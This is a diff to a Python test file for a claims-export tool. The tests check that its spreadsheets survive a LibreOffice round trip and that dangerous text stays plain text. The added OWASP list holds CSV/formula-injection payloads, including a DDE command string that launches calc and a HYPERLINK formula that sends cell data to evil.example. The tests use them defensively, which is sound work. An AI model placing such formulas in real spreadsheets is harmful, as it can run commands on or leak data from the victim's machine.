@@ -1,6 +1,8 @@
 """LibreOffice opens the sheet, shows the same values, and what it saves is understood."""
 
 import csv
+import os
+import random
 import shutil
 import subprocess
 from dataclasses import replace
@@ -15,6 +17,8 @@ from claims.exporting import Findings
 from claims.records import Speaker
 
 SOFFICE = shutil.which("soffice")
+if SOFFICE is None and os.environ.get("CI"):  # there a missing LibreOffice is a fault of the set-up
+    raise RuntimeError("LibreOffice is missing: run `make test-tools`")
 pytestmark = pytest.mark.skipif(SOFFICE is None, reason="LibreOffice is not installed")
 
 NAMES = [
@@ -32,6 +36,17 @@ NAMES = [
     "نادية",
     "1e5",
 ]
+OWASP = [
+    "=1+1", "+1+1", "-1+1", "@SUM(1+1)", "=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example?x="&A1,"click")',
+    "=1+1;=2", "  =1+1", "\u00a0=1+1", "＝1+1", "＋1", "－1", "＠SUM(1)", '=1+1";=1+1', "-2+3+cmd|' /C calc'!E1",
+]  # fmt: skip
+
+
+def any_texts() -> list[str]:
+    """Text from all of Unicode, the same on each run."""
+    chance = random.Random(6)
+    letters = [c for c in map(chr, range(0x110000)) if not 0xD800 <= ord(c) <= 0xDFFF]
+    return ["x" + "".join(chance.choices(letters, k=chance.randint(1, 30))) + "x" for _ in range(200)]
 
 
 def convert(path: Path, kind: str, folder: Path) -> Path:
@@ -64,6 +79,35 @@ def test_it_shows_the_text_as_it_is(tmp_path: Path) -> None:
         rows = list(csv.DictReader(file))
     assert [row["Speaker"] for row in rows] == NAMES
     assert {row["Published"] for row in rows} == {"2026-03-02"}
+
+
+def test_any_text_the_known_attacks_and_long_quotations_come_through(tmp_path: Path) -> None:
+    texts = [*OWASP, *any_texts(), "and then it rained " * 2_200, "水" * 40_000]
+    claims = tuple(
+        replace(CLAIMS[0], id=f"{n:012}", speaker=Speaker(t, "person")) for n, t in enumerate(texts)
+    )
+    sheet.write(Findings(claims), tmp_path / "any.xlsx")
+    written = [
+        row[0] for row in load_workbook(tmp_path / "any.xlsx")["Claims"].iter_rows(2, values_only=True)
+    ]
+    saved = load_workbook(convert(tmp_path / "any.xlsx", "xlsx", tmp_path), data_only=False)["Claims"]
+    cells = [row[0] for row in saved.iter_rows(2)]
+    assert {cell.data_type for cell in cells} == {"s"}
+    shown = [cell.value for cell in cells]
+    assert [t for t, s in zip(written, shown, strict=True) if t != s] == []
+
+
+def test_formulas_of_the_summary_count_what_is_filled_in(tmp_path: Path) -> None:
+    sheet.write(FINDINGS, tmp_path / "claims.xlsx")
+    book = load_workbook(tmp_path / "claims.xlsx")
+    page = book["Claims"]
+    for row, truth in ((3, "false"), (4, "false"), (5, "true")):
+        page.cell(row, [cell.value for cell in page[1]].index("Truth") + 1, truth)
+    book.save(tmp_path / "filled.xlsx")
+    saved = load_workbook(convert(tmp_path / "filled.xlsx", "xlsx", tmp_path), data_only=True)["Summary"]
+    shown = {row[0]: row[1:3] for row in saved.iter_rows(values_only=True, max_col=3) if row[0]}
+    assert shown["Truth decided"] == (4, 0.8)
+    assert (shown["truth: false"][0], shown["truth: true"][0]) == (2, 1)
 
 
 def test_what_it_saves_is_a_claim_sheet_still(tmp_path: Path) -> None:
